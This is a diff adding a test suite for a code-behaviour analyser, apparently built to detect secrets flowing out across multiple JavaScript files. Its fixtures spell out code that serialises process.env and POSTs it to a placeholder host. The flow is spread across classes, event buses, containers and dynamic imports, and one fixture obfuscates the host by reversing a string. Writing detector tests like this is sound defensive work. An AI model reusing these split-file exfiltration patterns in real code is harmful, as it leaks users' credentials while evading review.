@@ -1,0 +1,131 @@
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+
+import { behaviourOf, flowLines, lineOf } from '../../test/behave.ts';
+
+const SENT = 'process.env → fetch as content';
+const READ = 'JSON.stringify(process.env)';
+const SEND = (what: string): string => `fetch('https://a.invalid', { method: 'POST', body: ${what} })`;
+
+type Files = Readonly<Record<string, string>>;
+
+const READER = `module.exports = class { read() { return ${READ}; } };`;
+const SENDER = `module.exports = class { send(x) { ${SEND('x')}; } };`;
+const FILLS = `module.exports = c => { c.data = ${READ}; };`;
+const EMPTIES = `module.exports = c => { ${SEND('c.data')}; };`;
+
+/** Ways by which files work together of which none alone tells what is done. */
+const TOGETHER: Readonly<Record<string, Files>> = {
+  'objects of two files that a class of a third is made with': {
+    'index.js': `const A = require('./a'), B = require('./b'), App = require('./app'); new App(new A(), new B()).run();`,
+    'a.js': READER,
+    'b.js': SENDER,
+    'app.js': `module.exports = class { constructor(a, b) { this.a = a; this.b = b; } run() { this.b.send(this.a.read()); } };`,
+  },
+  'functions that are handed over in an object': {
+    'index.js': `require('./run')({ read: require('./a'), send: require('./b') });`,
+    'a.js': `module.exports = () => ${READ};`,
+    'b.js': `module.exports = x => { ${SEND('x')}; };`,
+    'run.js': `module.exports = ({ read, send }) => send(read());`,
+  },
+  'steps of two files that a class of a third goes through': {
+    'index.js': `const P = require('./p'); new P().use(require('./a')).use(require('./b')).run();`,
+    'p.js': `module.exports = class { constructor() { this.steps = []; } use(f) { this.steps.push(f); return this; } run() { const c = {}; this.steps.forEach(f => f(c)); } };`,
+    'a.js': FILLS,
+    'b.js': EMPTIES,
+  },
+  'steps that wait for each other': {
+    'index.js': `require('./p').run([require('./a'), require('./b')]);`,
+    'p.js': `exports.run = async steps => { let v; for (const step of steps) v = await step(v); };`,
+    'a.js': `module.exports = async () => ${READ};`,
+    'b.js': `module.exports = async x => { ${SEND('x')}; };`,
+  },
+  'a bus that one file keeps': {
+    'index.js': `require('./a'); require('./b');`,
+    'bus.js': `const all = []; exports.sub = f => all.push(f); exports.pub = x => all.forEach(f => f(x));`,
+    'a.js': `require('./bus').sub(d => ${SEND('d')});`,
+    'b.js': `require('./bus').pub(${READ});`,
+  },
+  'a container of one file that makes what another offers': {
+    'index.js': `const c = require('./container'); c.put('a', () => require('./a')); c.put('b', () => require('./b')); c.get('b').send(c.get('a').read());`,
+    'container.js': `const makers = {}; exports.put = (k, f) => { makers[k] = f; }; exports.get = k => makers[k]();`,
+    'a.js': `exports.read = () => ${READ};`,
+    'b.js': `exports.send = x => { ${SEND('x')}; };`,
+  },
+  'a table of one file that names another': {
+    'index.js': `require('./s').pick('http').send(${READ});`,
+    's.js': `const table = { http: require('./b'), none: { send() {} } }; exports.pick = name => table[name] || table.none;`,
+    'b.js': `exports.send = x => { ${SEND('x')}; };`,
+  },
+  'files of ESM that hand on each other’s names': {
+    'package.json': JSON.stringify({ name: 'x', version: '1.0.0', type: 'module', main: 'index.js' }),
+    'index.js': `import { App } from './lib.js'; import Source, { sink as out } from './parts.js'; new App(new Source(), out).run();`,
+    'lib.js': `export * from './app.js';`,
+    'app.js': `export class App { constructor(a, b) { this.a = a; this.b = b; } run() { this.b.send(this.a.read()); } }`,
+    'parts.js': `export default class Source { read() { return ${READ}; } }\nexport const sink = { send(x) { ${SEND('x')}; } };`,
+  },
+  'files that are loaded later': {
+    'index.js': `import('./a.mjs').then(a => import('./b.mjs').then(b => b.send(a.read())));`,
+    'a.mjs': `export const read = () => ${READ};`,
+    'b.mjs': `export const send = x => { ${SEND('x')}; };`,
+  },
+};
+
+describe('files that are read as one', () => {
+  for (const [what, files] of Object.entries(TOGETHER))
+    it(`tell what is done by ${what}`, () => {
+      const { effects } = behaviourOf(files);
+      assert.ok(flowLines(files).includes(SENT));
+      assert.ok(effects.some(one => one.kind === 'connects' && one.triggers.includes('import')));
+    });
+
+  it('tell of everything where in its own file it stands', () => {
+    const files = TOGETHER['files of ESM that hand on each other’s names'] ?? {};
+    const places = behaviourOf(files).effects.map(({ at }) => (files[at.path] ?? '').slice(at.start, at.end));
+    assert.deepEqual([...new Set(places)].toSorted(), [SEND('x'), 'process.env'].toSorted());
+  });
+
+  it('do nothing twice that each does by itself', () => {
+    const files = { 'index.js': `require('./b').send(process.env.TOKEN);`, 'b.js': `exports.send = x => { ${SEND('x')}; };` };
+    assert.deepEqual(behaviourOf(files).effects.map(lineOf), [
+      'import reads environment process.env.TOKEN(TOKEN)',
+      'import connects fetch(https://a.invalid)',
+    ]);
+  });
+
+  for (const end of ['/* never ended', 'const x = `never ended', "const x = 'never ended"])
+    it(`do not end where one of them does not: ${end}`, () => {
+      const files = {
+        ...TOGETHER['functions that are handed over in an object'],
+        'a.js': `module.exports = () => ${READ}; if (0) require('./odd');`,
+        'odd.js': `fetch('https://b.invalid'); ${end}`,
+      };
+      assert.ok(flowLines(files).includes(SENT));
+    });
+
+  it('know what stands in files of data that they load', () => {
+    const files = {
+      'index.js': `const said = require('./said.json'); fetch('https://' + said.host.split('').reverse().join(''));`,
+      'said.json': '{"host":"dilavni.a"}',
+    };
+    assert.deepEqual(behaviourOf(files).effects.map(lineOf), ['import connects fetch(https://a.invalid)']);
+  });
+
+  it('do not call what nobody hands over', () => {
+    const files = {
+      'index.js': `const App = require('./app'); module.exports = (a, b) => new App(a, b);`,
+      'app.js': `module.exports = class { constructor(a, b) { this.a = a; this.b = b; } run() { this.b.send(this.a.read()); } };`,
+      'a.js': READER,
+      'b.js': SENDER,
+    };
+    assert.ok(!flowLines(files).includes(SENT));
+  });
+
+  it('are started as programs where they ask whether they were', () => {
+    const files = {
+      'index.js': `const { go } = require('./b'); if (require.main === module) go(process.env.TOKEN);`,
+      'b.js': `exports.go = x => { ${SEND('x')}; };`,
+    };
+    assert.ok(behaviourOf(files).effects.every(one => one.kind !== 'connects' || !one.triggers.includes('import')));
+  });
+});
